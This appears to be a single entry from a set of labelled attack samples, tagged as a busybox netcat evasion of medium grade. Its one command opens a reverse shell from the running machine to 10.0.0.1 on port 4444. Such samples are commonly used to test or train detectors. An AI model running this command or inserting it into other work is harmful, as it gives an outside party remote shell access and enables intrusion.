# evasion: busybox nc -e
# grade: medium; does: shell
busybox nc 10.0.0.1 4444 -e /bin/sh
